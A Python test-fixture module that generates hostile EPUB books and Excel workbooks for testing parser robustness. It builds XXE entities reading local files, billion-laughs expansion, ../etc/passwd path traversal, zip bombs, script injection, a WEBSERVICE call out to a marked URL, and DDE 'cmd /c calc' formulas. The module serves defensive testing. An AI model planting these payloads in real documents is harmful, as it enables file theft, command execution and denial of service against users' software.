"""EPUB books and Excel workbooks: entities, paths that lead out, sizes that lie, formulas, cells past the last column."""

from __future__ import annotations

from collections.abc import Iterator, Mapping

from hostile.building import SAID, File, Marks, bomb, noise, packed, zip_of, zip_parts
from hostile.documents import OLE, XML
from hostile.pages import LAUGHS

_S = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_CHAPTER = (
    f"<html xmlns='http://www.w3.org/1999/xhtml'><body><h1>Market</h1>{f'<p>{SAID}</p>' * 4}</body></html>"
)


def epub(
    chapter: str = _CHAPTER, href: str = "c.xhtml", before: str = "", refs: int = 1, path: str = "o.opf"
) -> dict[str, bytes | str]:
    return {
        "mimetype": "application/epub+zip",
        "META-INF/container.xml": f'{XML}<container xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles><rootfile full-path="{path}" media-type="application/oebps-package+xml"/></rootfiles></container>',
        "o.opf": f'{XML}{before}<package xmlns="http://www.idpf.org/2007/opf"><metadata/><manifest><item id="c" href="{href}" media-type="application/xhtml+xml"/></manifest><spine>{"<itemref idref=" + chr(34) + "c" + chr(34) + "/>"}{"<itemref idref=" + chr(34) + "c" + chr(34) + "/>" if refs > 1 else ""}{"".join("<itemref idref=" + chr(34) + "c" + chr(34) + "/>" for _ in range(refs - 2))}</spine></package>',
        "c.xhtml": chapter,
    }  # fmt: skip


def xlsx(
    sheet: str,
    strings: str = "",
    workbook: str = "",
    dimension: str = "A1:B3",
    before: str = "",
    **more: bytes | str,
) -> dict[str, bytes | str]:
    return {
        "[Content_Types].xml": f'{XML}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/><Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>',
        "_rels/.rels": f'{XML}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="{_REL}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        "xl/workbook.xml": f'{XML}<workbook {_S}><sheets><sheet name="Reports" sheetId="1" r:id="r1"/></sheets>{workbook}</workbook>',
        "xl/_rels/workbook.xml.rels": f'{XML}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="{_REL}/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="r2" Type="{_REL}/sharedStrings" Target="sharedStrings.xml"/></Relationships>',
        "xl/worksheets/sheet1.xml": f'{XML}{before}<worksheet {_S}><dimension ref="{dimension}"/><sheetData>{sheet}</sheetData></worksheet>',
        "xl/sharedStrings.xml": f"{XML}<sst {_S}>{strings}</sst>",
        **more,
    }  # fmt: skip


def cell(place: str, text: str) -> str:
    return f'<c r="{place}" t="inlineStr"><is><t>{text}</t></is></c>'


def row(number: int, *cells: str) -> str:
    return f'<row r="{number}">{"".join(cells)}</row>'


ROWS = row(1, cell("A1", "text"), cell("B1", "title")) + row(2, cell("A2", SAID), cell("B2", "Market"))


def files(marks: Marks) -> Iterator[tuple[str, File]]:
    for name, parts in (*_books(marks), *_sizes(), *_workbooks(marks)):
        yield name, zip_parts(parts)
    yield (
        "chapter-of-zeros.epub",
        zip_of(
            [
                *(packed(n, p.encode()) for n, p in epub().items() if n != "c.xhtml" and isinstance(p, str)),
                bomb("c.xhtml", 200 << 20),
            ]
        ),
    )
    yield (
        "sheet-of-zeros.xlsx",
        zip_of(
            [
                *(
                    packed(n, p.encode())
                    for n, p in xlsx("").items()
                    if "sheet1" not in n and isinstance(p, str)
                ),
                bomb("xl/worksheets/sheet1.xml", 200 << 20),
            ]
        ),
    )
    yield "old-workbook.xlsx", OLE + noise(4000, "xls")


def _books(marks: Marks) -> Iterator[tuple[str, Mapping[str, bytes | str]]]:
    entity = f'<!DOCTYPE p [<!ENTITY x SYSTEM "{marks.file_url}">]>'
    yield "laughs.epub", epub(f"{XML}<!DOCTYPE html [{LAUGHS}]>" + _CHAPTER.replace("Market", "&e11;"))
    yield "entity-in-chapter.epub", epub(XML + entity + _CHAPTER.replace("Market", "&x;"))
    yield "entity-in-contents.epub", epub(before=entity)
    yield (
        "address-in-container.epub",
        epub() | {"META-INF/container.xml": f'{XML}<!DOCTYPE c SYSTEM "{marks.url}c.dtd"><container/>'},
    )
    yield "path-that-leads-out.epub", epub(href="../../../../../../etc/passwd")
    yield "absolute-path.epub", epub(href=str(marks.secret), path="/etc/passwd")
    yield "address-as-chapter.epub", epub(href=marks.url)
    yield "same-chapter-again.epub", epub(refs=50_000)
    yield "script.epub", epub(_CHAPTER.replace("<h1>", f"<script src='{marks.url}'>alert(1)</script><h1>"))
    yield "contents-of-contents.epub", epub(path="META-INF/container.xml")
    yield "endless-tags.epub", epub("<html><body>" + "<i>" * 100_000 + SAID * 4)


def _sizes() -> Iterator[tuple[str, Mapping[str, bytes | str]]]:
    yield "dimension.xlsx", xlsx(ROWS, dimension="A1:XFD1048576")
    yield "dimension-past-the-end.xlsx", xlsx(ROWS, dimension="A1:ZZZZZZ99999999999")
    yield "last-cell.xlsx", xlsx(ROWS + row(1048576, cell("XFD1048576", SAID)))
    yield (
        "column-past-the-end.xlsx",
        xlsx(row(1, cell("A1", "text"), cell("ZZZZZZZ1", "title")) + row(2, cell("A2", SAID))),
    )
    yield "row-past-the-end.xlsx", xlsx(ROWS + row(99999999999, cell("A99999999999", SAID)))
    yield (
        "rows-backwards.xlsx",
        xlsx(row(5, cell("A5", "text")) + row(2, cell("A2", SAID)) + row(-7, cell("A-7", SAID))),
    )
    yield "wide-rows.xlsx", xlsx("".join(row(n, *(cell(f"XFD{n}", "x"),)) for n in range(1, 3000)))
    yield "many-columns.xlsx", xlsx(row(1, *("<c t='n'><v>1</v></c>" for _ in range(100_000))) + ROWS)
    yield "empty-rows.xlsx", xlsx("<row/>" * 100_000 + ROWS)
    yield "merged.xlsx", xlsx(ROWS, more='<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>')
    yield "endless-strings.xlsx", xlsx(ROWS, strings="<si><t>killed</t></si>" * 200_000)


def _workbooks(marks: Marks) -> Iterator[tuple[str, Mapping[str, bytes | str]]]:
    yield (
        "laughs.xlsx",
        xlsx(row(1, cell("A1", "text")) + row(2, cell("A2", "&e11;")), before=f"<!DOCTYPE w [{LAUGHS}]>"),
    )
    yield (
        "entity-of-a-file.xlsx",
        xlsx(
            row(1, cell("A1", "text")) + row(2, cell("A2", "&x;")),
            before=f'<!DOCTYPE w [<!ENTITY x SYSTEM "{marks.file_url}">]>',
        ),
    )
    yield (
        "late-entity.xlsx",
        xlsx(
            row(1, cell("A1", "text")) + row(2, cell("A2", "&x;")),
            before=f'<!--{" " * 9000}--><!DOCTYPE w [<!ENTITY x SYSTEM "{marks.file_url}">]>',
        ),
    )
    yield (
        "string-not-there.xlsx",
        xlsx(row(1, cell("A1", "text")) + row(2, '<c r="A2" t="s"><v>99999999</v></c>')),
    )
    yield (
        "string-below-zero.xlsx",
        xlsx(
            row(1, cell("A1", "text")) + row(2, '<c r="A2" t="s"><v>-1</v></c>'), strings="<si><t>x</t></si>"
        ),
    )
    yield (
        "endless-day.xlsx",
        xlsx(
            row(1, cell("A1", "text"), cell("B1", "published"))
            + row(2, cell("A2", SAID), '<c r="B2" t="d"><v>99999-99-99</v></c>')
            + row(3, cell("A3", SAID), '<c r="B3"><v>1e308</v></c>')
        ),
    )
    yield (
        "formulas.xlsx",
        xlsx(
            row(1, cell("A1", "text"))
            + row(2, f'<c r="A2" t="str"><f>WEBSERVICE("{marks.url}")</f><v>Two were killed.</v></c>')
            + row(3, "<c r='A3' t='str'><f>cmd|'/c calc'!A0</f><v>x</v></c>")
        ),
    )
    yield (
        "outside-workbook.xlsx",
        xlsx(
            ROWS,
            workbook='<externalReferences><externalReference r:id="r9"/></externalReferences>',
            **{
                "xl/externalLinks/externalLink1.xml": f'<externalLink {_S}><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
            },
        ),
    )
    yield "no-sheet.xlsx", {name: part for name, part in xlsx(ROWS).items() if "sheet1" not in name}
    yield (
        "names-bomb.xlsx",
        xlsx(
            ROWS,
            workbook="<definedNames>"
            + '<definedName name="x">Reports!$A$1</definedName>' * 50_000
            + "</definedNames>",
        ),
    )
    yield (
        "slashes.xlsx",
        xlsx(ROWS)
        | {
            "xl/workbook.xml": f'{XML}<workbook {_S}><sheets><sheet name="../../etc/passwd" sheetId="1" r:id="r1"/></sheets></workbook>'
        },
    )
